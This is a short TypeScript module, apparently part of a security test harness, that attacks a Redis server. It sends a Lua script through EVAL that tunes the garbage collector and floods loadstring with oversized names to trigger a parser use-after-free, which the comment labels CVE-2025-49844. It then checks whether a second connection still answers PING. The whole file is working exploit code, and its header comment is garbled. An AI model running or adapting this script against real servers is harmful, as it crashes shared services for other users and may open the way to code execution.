// Has Lua's parser use what its collector has freed (CVE-2025-49844), the way to code of the attacker's in the server → at worst it dies alone
import { attack } from '../attack.ts';

export default attack(async ({ redis }) => {
  const [broken, neighbour] = await Promise.all([redis(), redis()]);
  const script = `collectgarbage('setpause', 0) collectgarbage('setstepmul', 1000000)
for i = 1, 200 do
  local name = string.rep('n' .. i, 3000)
  pcall(loadstring, 'local ' .. name .. ' = {' .. string.rep('"x",', 2000) .. '} return ' .. name, '@' .. string.rep('c', 9000) .. i)
end
return 'done'`;
  const said = await broken.learner
    .eval(script, 0)
    .then(String, (error: Error) => error.message.slice(0, 60));
  const answer = await neighbour.learner.ping().catch((error: Error) => error.message);
  return { effect: answer !== 'PONG', observed: `${said}; its neighbour says ${answer}` };
});
